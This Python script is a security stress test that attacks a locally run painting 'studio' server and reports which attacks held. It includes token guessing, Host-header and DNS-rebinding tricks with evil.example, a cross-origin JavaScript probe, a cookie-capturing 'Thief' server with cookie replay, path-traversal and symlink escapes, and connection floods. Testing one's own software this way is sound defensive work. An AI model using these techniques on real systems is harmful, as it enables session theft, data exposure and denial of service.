"""Attacks a studio in the ways in which others have got into pages that command machines, and tells which of them held.

    make stress PROGRAM=attack OPTIONS="--quick --json FILE"

By a second origin in a real browser (Chromium, by way of Playwright; left out where there is none), by another server
on another port of the same host that gets the browser's cookies, by other names for this machine (DNS rebinding), by
floods of logins, streams, requests and wrong tokens, by clients that are slow or say nothing, and by links to files
that are none of the studio's. After each the one who paints has to come in, and to be heard when they stop.
storm.py sends requests that make no sense; stop.py measures how long a stop takes.
"""

import argparse
import contextlib
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from contextlib import ExitStack, closing
from dataclasses import dataclass, field
from http.client import HTTPConnection, HTTPException
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from measure import Table, arguments, publish
from stop import Studio, Worker, begun, press

from frida_painter_studio.store import PaintingStore

Answer = tuple[int, dict[str, str], bytes]


@dataclass
class Target:
    """The studio that is attacked, and what tells whether an attack has got through."""

    studio: Studio
    store: PaintingStore
    worker: Worker
    identifier: str
    way: dict[str, Any]
    many: int
    rows: list[tuple[str, int, bool, str]] = field(default_factory=list)
    pressed: int = 0

    def ask(self, method: str, path: str, headers: dict[str, str] | None = None, body: bytes = b"") -> Answer:
        return ask(self.studio.port, method, path, headers or {}, body)

    def bearer(self, role: str = "operate") -> dict[str, str]:
        return {"Authorization": f"Bearer {self.studio.tokens[role]}"}

    def attack(self, name: str, do: Callable[["Target"], tuple[int, int]]) -> None:
        """Does it: `do` returns how often it tried and how often it got through; then looks whether all is well."""
        before = len(self.worker.heard) - self.pressed
        try:
            tried, through = do(self)
            said = "" if through == 0 else f"{through} got through"
        except (OSError, HTTPException) as error:
            tried, through, said = 1, 1, f"the studio did not answer ({error})"
        said += self.amiss()
        stray = len(self.worker.heard) - self.pressed - before
        said += f"; {stray} stops that nobody pressed" if stray else ""
        self.rows.append((name, tried, not said, said.strip("; ")))
        print(f"{'held' if not said else 'BROKE'}: {name}", flush=True)

    def amiss(self) -> str:
        """What is amiss for the one who paints; empty where nothing is."""
        self.pressed += 1
        began = time.monotonic()
        answered, heard = press(self.way)
        took = time.monotonic() - began
        amiss = "" if answered and heard and took < 1 else f"; a stop took {took:.2f} s, heard by {heard}"
        with contextlib.suppress(OSError, HTTPException):
            if self.ask("GET", f"/?token={self.studio.tokens['operate']}")[0] == 200:
                return amiss
        return f"{amiss}; the operator does not come in"


def ask(port: int, method: str, path: str, headers: dict[str, str], body: bytes = b"") -> Answer:
    with closing(HTTPConnection("127.0.0.1", port, timeout=30)) as connection:
        connection.request(method, path, body or None, headers)
        answer = connection.getresponse()
        return answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()


def wrong_tokens(target: Target) -> tuple[int, int]:
    """Guesses, as a program and as a browser, from as many sides as may be slowed down at once."""
    through = [0]

    def guess(number: int) -> None:
        for turn in range(target.many // 20):
            headers = {"Authorization": f"Bearer guess-{number}-{turn}"} if turn % 2 else {}
            path = "/api/studio" if turn % 2 else f"/?token=guess-{number}-{turn}"
            with contextlib.suppress(OSError, HTTPException):
                through[0] += target.ask("GET", path, headers)[0] not in (401, 429)

    threads = [threading.Thread(target=guess, args=(number,)) for number in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return 20 * (target.many // 20), through[0]


def wrong_tokens_of_a_foreign_page(target: Target) -> tuple[int, int]:
    signs = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
    answers = [target.ask("GET", f"/?token=guess-{number}", signs)[0] for number in range(target.many)]
    return len(answers), sum(status != 403 for status in answers)


def other_names(target: Target) -> tuple[int, int]:
    names = ["evil.example", f"evil.example:{target.studio.port}", "127.0.0.1", "127.0.0.1:80", "0.0.0.0", "[::1]:80"]
    names += [f"127.0.0.1:{target.studio.port}.evil.example", f"localhost.evil.example:{target.studio.port}"]
    through = sum(target.ask("GET", "/api/studio", {**target.bearer(), "Host": name})[0] != 403 for name in names)
    foreign = ["evil.example", "127.0.0.1.evil.example", "evil.example:80", "0.0.0.0", ""]
    secret = target.way["secret"].encode()
    through += sum(ask(target.way["port"], "POST", "/stop", {"Host": name}, secret)[0] == 200 for name in foreign)
    return len(names) + len(foreign), through


def stops_without_a_secret(target: Target) -> tuple[int, int]:
    secret, port = target.way["secret"], target.way["port"]
    role, ends, sign = secret.split(".")
    wrong = [
        "",
        "x",
        secret[:-1],
        f"watch.{ends}.{sign}",
        f"{role}.{int(ends) + 1}.{sign}",
        f"{role}..{sign}",
        "é",
        "\0",
    ]
    wrong += ["." * 4000, secret.upper(), f"{role}.9e9.{sign}", target.studio.tokens["operate"]]
    return len(wrong), sum(ask(port, "POST", "/stop", {}, each.encode())[0] == 200 for each in wrong)


def a_flood_of_watchers(target: Target) -> tuple[int, int]:
    """Logins and streams of those who watch: they take neither sessions nor seats from whoever paints."""
    entered = target.ask("GET", f"/?token={target.studio.tokens['operate']}")
    cookie = entered[1]["set-cookie"].split(";")[0]
    key = entered[2].decode().partition("#key=")[2].partition('"')[0]
    with ExitStack() as stack:
        for _ in range(target.many):
            target.ask("GET", f"/?token={target.studio.tokens['watch']}")
        for _ in range(60):
            stack.enter_context(stream(target, "watch"))
        lost = target.ask("GET", "/api/studio", {"Cookie": cookie, "X-Page-Key": key})[0] != 200
        with stream(target, "operate") as own:
            turned_away = b" 200 " not in own.recv(100)
    return target.many + 60, lost + turned_away


def stream(target: Target, role: str) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", target.studio.port), timeout=10)
    head = f"GET /api/events?of={target.identifier} HTTP/1.1\r\nHost: 127.0.0.1:{target.studio.port}\r\n"
    connection.sendall(f"{head}Authorization: Bearer {target.studio.tokens[role]}\r\n\r\n".encode())
    return connection


def ten_sessions(target: Target) -> tuple[int, int]:
    """Ten sessions of a role may not ask ten times as much as one."""
    sessions = []
    for _ in range(10):
        entered = target.ask("GET", f"/?token={target.studio.tokens['watch']}")
        key = entered[2].decode().partition("#key=")[2].partition('"')[0]
        sessions.append({"Cookie": entered[1]["set-cookie"].split(";")[0], "X-Page-Key": key})
    answers = [target.ask("GET", "/api/calibration", sessions[number % 10])[0] for number in range(2 * target.many)]
    quota = 800 + 160 * 60  # what the role as a whole is given in a minute
    return len(answers), max(0, answers.count(200) - quota) + sum(status not in (200, 429) for status in answers)


def large_heads_and_bodies(target: Target) -> tuple[int, int]:
    through = target.ask("GET", "/api/studio", {**target.bearer(), "X-More": "x" * 60_000})[0] == 200
    for path in ("/api/paintings", "/api/pictures", "/api/stop"):
        with contextlib.suppress(OSError, HTTPException):
            through += target.ask("POST", path, target.bearer("plan"), bytes(40_000_000))[0] == 200
    return 4, through


def half_open(target: Target) -> tuple[int, int]:
    """More than there are files for, on both ports: whoever asks is answered all the same."""
    with ExitStack() as stack:
        for number in range(3 * target.many):
            for port in (target.studio.port, target.way["port"]):
                with contextlib.suppress(OSError):
                    slow = stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=5))
                    if number % 2:
                        slow.sendall(b"GET / HTTP/1.1\r\nHost: ")
        missed = target.amiss()
    return 6 * target.many, bool(missed)


def answers_that_nobody_reads(target: Target) -> tuple[int, int]:
    with ExitStack() as stack:
        for _ in range(80):
            connection = stack.enter_context(socket.create_connection(("127.0.0.1", target.studio.port), timeout=10))
            other = target.store.all()[0].id
            head = f"GET /api/paintings/{other}/everything.zip HTTP/1.1\r\nHost: 127.0.0.1:{target.studio.port}\r\n"
            connection.sendall(f"{head}Authorization: Bearer {target.studio.tokens['watch']}\r\n\r\n".encode())
        time.sleep(1)
        files = [path for path in target.store.root.rglob(".take-along*") if path.is_file()]
        return 80, len(files) + bool(target.amiss())


def links_to_elsewhere(target: Target) -> tuple[int, int]:
    """A folder or a file that leads out of the studio is not given away, nor are others let read what is in it."""
    secret = target.store.root.parent / "secret"
    secret.mkdir()
    (secret / "painting.png").write_bytes(b"secret")
    entry = target.store.begin("A link")
    entry.folder.painting.symlink_to(secret)
    paths = [f"/api/paintings/{entry.id}/everything.zip", f"/paintings/{entry.id}/painting/painting.png"]
    paths += [f"/paintings/{entry.id}/painting/..%2f..%2fstudio.sqlite", f"/paintings/{entry.id}/live/..%2fstop"]
    through = sum(target.ask("GET", path, target.bearer())[0] == 200 for path in paths)
    private = [target.store.root, target.store.pictures, target.store.root / "studio.sqlite"]
    private += [target.store.root / ".stop-key", target.store.root / ".stop", entry.folder.path]
    return len(paths) + len(private), through + sum(bool(path.stat().st_mode & 0o077) for path in private)


def every_network_by_another_name(target: Target) -> tuple[int, int]:
    addresses = ["0.0.0.0", "::", "::ffff:0.0.0.0", "::ffff:0:0", "0:0:0:0:0:ffff:0:0"]
    program = [sys.executable, "-m", "frida_painter", "studio", "--no-browser", "--port", "0"]
    program += ["--folder", str(target.store.root.parent / "other"), "--address"]
    return len(addresses), sum(
        subprocess.run([*program, address], capture_output=True, timeout=60).returncode != 2 for address in addresses
    )


FOREIGN = """async ([studio, stop]) => {
  const tries = [];
  const soon = (begin) => new Promise((resolve) => { begin(resolve); setTimeout(() => resolve(""), 3000); });
  const load = (tag, address) => soon((resolve) => {
    const made = document.body.appendChild(document.createElement(tag));
    made.onload = () => resolve(tag);
    made.onerror = () => resolve("");
    made.src = address;
  });
  const ask = (address, more) => fetch(address, { credentials: "include", ...more })
    .then((answer) => (answer.type !== "opaque" && answer.ok ? "read" : "")).catch(() => "");
  for (const path of ["/", "/api/studio", "/api/paintings", "/static/main.js", "/?token=guess"]) {
    tries.push(load("img", studio + path), load("script", studio + path));
    for (const mode of ["cors", "no-cors"]) tries.push(ask(studio + path, { mode }));
  }
  for (const address of [studio + "/api/stop", studio + "/api/lead", stop + "/stop"]) {
    for (const mode of ["cors", "no-cors"]) tries.push(ask(address, { method: "POST", mode, body: "x" }));
    navigator.sendBeacon(address, "x");
  }
  tries.push(soon((resolve) => {
    const events = new EventSource(studio + "/api/events?of=calibration", { withCredentials: true });
    events.onopen = () => resolve("events");
  }));
  tries.push(soon((resolve) => {
    const socket = new WebSocket(studio.replace("http", "ws"));
    socket.onopen = () => resolve("socket");
  }));
  const frame = document.body.appendChild(document.createElement("iframe"));
  await soon((resolve) => { frame.onload = resolve; frame.src = studio; });
  let inside = "";
  try { inside = frame.contentDocument?.body?.textContent ?? ""; } catch { /* of another origin */ }
  const found = [...(await Promise.all(tries)), inside];
  return [found.length, found.filter(Boolean)];
}"""


class Thief(BaseHTTPRequestHandler):
    """A server on another port of this machine, which browsers send the studio's cookies to."""

    def do_GET(self) -> None:
        self.server.cookies.append(self.headers.get("Cookie", ""))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!DOCTYPE html><body>")

    def log_message(self, *words: object) -> None:
        pass


def in_a_browser(target: Target) -> None:
    """What other pages of the same browser can do to somebody who has the studio open."""
    program = shutil.which("chromium") or shutil.which("google-chrome")
    if program is None:
        print("There is no Chromium: attacks by other pages are left out.")
        return
    from playwright.sync_api import sync_playwright

    studio, stop = (f"http://127.0.0.1:{port}" for port in (target.studio.port, target.way["port"]))
    with sync_playwright() as playwright, ThreadingHTTPServer(("127.0.0.1", 0), Thief) as thief:
        thief.cookies = []
        threading.Thread(target=thief.serve_forever, daemon=True).start()
        rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
        flags = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", rules]
        chromium = playwright.chromium.launch(executable_path=program, args=flags)
        context = chromium.new_context()
        page = context.new_page()
        page.goto(f"{studio}/?token={target.studio.tokens['operate']}")
        page.wait_for_url("**/#/")
        page.locator("#view > *").first.wait_for()
        for name, origin in (("another port", "127.0.0.1"), ("another site", "evil.example")):
            foreign = context.new_page()
            foreign.goto(f"http://{origin}:{thief.server_port}/")

            def embed(_: Target, foreign: Any = foreign) -> tuple[int, int]:
                tried, found = foreign.evaluate(FOREIGN, [studio, stop])
                return tried, len(found)

            target.attack(f"a page of {name} loads, asks, posts, frames", embed)
            foreign.close()

        def replay(target: Target) -> tuple[int, int]:
            cookie = next(filter(None, thief.cookies))
            signs = {"Cookie": cookie, "Origin": studio, "Sec-Fetch-Site": "same-origin"}
            asked = [("GET", "/api/studio"), ("GET", "/api/paintings"), ("GET", "/api/events?of=calibration")]
            asked += [("GET", f"/api/paintings/{target.identifier}"), ("POST", "/api/lead"), ("POST", "/api/stop")]
            return len(asked), sum(target.ask(*each, signs)[0] == 200 for each in asked)

        def rebind(target: Target) -> tuple[int, int]:
            """The name of another site leads to this machine, so that its pages and the studio are of one origin."""
            rebound = context.new_page()
            answers = [
                rebound.goto(f"http://evil.example:{port}/") for port in (target.studio.port, target.way["port"])
            ]
            rebound.close()
            return len(answers), sum(answer is None or answer.status == 200 for answer in answers)

        target.attack("another port replays the cookie that it was sent", replay)
        target.attack("the name of another site leads to the studio", rebind)
        chromium.close()
        thief.shutdown()


ATTACKS = {
    "wrong tokens, as a program and as a browser": wrong_tokens,
    "a foreign page loads wrong tokens again and again": wrong_tokens_of_a_foreign_page,
    "other names for this machine": other_names,
    "stops without a secret": stops_without_a_secret,
    "logins and streams of those who watch": a_flood_of_watchers,
    "ten sessions ask for ten times as much": ten_sessions,
    "heads and bodies that are too large": large_heads_and_bodies,
    "half-open connections on both ports": half_open,
    "ZIPs that nobody reads": answers_that_nobody_reads,
    "links that lead out of the studio, files that others can read": links_to_elsewhere,
    "all networks by another name": every_network_by_another_name,
}


def main() -> None:
    options: argparse.Namespace = arguments(__doc__).parse_args()
    with tempfile.TemporaryDirectory() as place:
        studio = Studio(Path(place) / "paintings")
        studio.open()
        try:
            store = PaintingStore(studio.folder)
            entry = begun(store)
            worker = Worker(store, entry)
            way = studio.ask("/api/studio")["stop"]
            while not press(way)[1]:
                time.sleep(0.1)
            target = Target(studio, store, worker, entry.id, way, many=60 if options.quick else 600)
            in_a_browser(target)
            for name, attack in ATTACKS.items():
                target.attack(name, attack)
            worker.lock.release()
        finally:
            studio.kill()
    rows = [(name, str(tried), "held" if held else "BROKE", said) for name, tried, held, said in target.rows]
    publish([Table("Attacks on a studio", ("attack", "tried", "", ""), rows)], target.rows, options)
    if not all(held for _, _, held, _ in target.rows):
        raise SystemExit(1)


if __name__ == "__main__":
    main()
